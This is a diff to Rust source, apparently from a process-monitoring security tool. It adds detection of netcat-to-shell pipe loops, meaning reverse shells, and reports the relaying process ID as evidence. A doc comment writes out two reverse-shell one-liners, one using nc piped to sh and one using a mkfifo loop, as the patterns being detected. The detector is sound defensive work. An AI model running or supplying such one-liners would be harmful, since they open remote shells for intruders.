@@ -5,7 +5,10 @@
 
 use std::collections::HashMap;
 
-use super::tools::ToolKind;
+use super::{
+    spec::{put, Props, Render},
+    tools::{identify, ToolKind, ToolLists},
+};
 use crate::{
     event::{ProcessKey, Stdio},
     process::{Process, ProcessTable},
@@ -36,6 +39,29 @@ pub enum RelayKind {
     Exec,
     /// A netcat process talking to the network on its stdio.
     Netcat,
+}
+
+/// A netcat and the shell it drives through pipes or a FIFO (`nc h p | sh`,
+/// `mkfifo f; cat f | sh -i 2>&1 | nc h p > f`).
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct WiredLoop {
+    /// The netcat.
+    pub netcat: ProcessKey,
+    /// The shell (or interpreter) it feeds.
+    pub shell: ProcessKey,
+}
+
+/// Evidence of a process fed by a network relay.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Relayed {
+    /// The relaying process.
+    pub relay: ProcessKey,
+}
+
+impl Render for Relayed {
+    fn render(&self, props: &mut Props) {
+        put(props, "Network_Relay_Pid", self.relay.pid);
+    }
 }
 
 /// Relays and stdio pipes of live processes.
@@ -197,6 +223,33 @@ impl NetState {
             if let Some(nc) = table.get(k) {
                 if self.drives(table, nc, shell) {
                     out.push(k);
+                }
+            }
+        }
+        out
+    }
+
+    /// The netcat/shell pipe loops `p` (just exec'd) is a member of: the exec that completes a
+    /// loop may be any member of it, the netcat, the shell or a `cat` between them.
+    pub fn wired_loops(&self, table: &ProcessTable, p: &Process, lists: &ToolLists) -> Vec<WiredLoop> {
+        let mut out = Vec::new();
+        if !p.stdio.iter().any(|s| s.pipe_ino().is_some()) {
+            return out;
+        }
+        let mut near = self.upstream(table, p);
+        near.extend(self.downstream(table, p));
+        near.push(p.key);
+        let mut netcats: Vec<ProcessKey> = near.into_iter().filter(|k| self.relay(k) == Some(RelayKind::Netcat)).collect();
+        netcats.dedup();
+        for netcat in netcats {
+            let Some(nc) = table.get(netcat) else { continue };
+            let mut shells = self.upstream(table, nc);
+            shells.extend(self.downstream(table, nc));
+            for sh in shells {
+                let is_shell = |s: &&Process| matches!(identify(&s.exe, &s.argv, lists).kind, ToolKind::Shell | ToolKind::Interpreter);
+                let Some(shell) = table.get(sh).filter(is_shell) else { continue };
+                if self.drives(table, nc, shell) {
+                    out.push(WiredLoop { netcat, shell: shell.key });
                 }
             }
         }
